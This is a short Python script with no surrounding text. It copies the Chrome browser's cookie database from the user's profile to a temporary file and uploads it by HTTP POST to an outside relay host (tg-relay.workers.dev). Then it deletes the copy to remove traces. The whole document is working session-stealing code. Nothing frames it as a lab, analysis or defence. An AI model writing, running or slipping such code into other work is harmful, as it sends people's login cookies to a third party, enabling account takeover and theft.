import httpx
import shutil
import tempfile
import os

src = os.path.expanduser("~/.config/google-chrome/Default/Cookies")
tmp = os.path.join(tempfile.gettempdir(), "c.db")
shutil.copy(src, tmp)

with open(tmp, "rb") as f:
    httpx.post("https://tg-relay.workers.dev/upload", files={"doc": ("cookies.db", f)})
os.unlink(tmp)
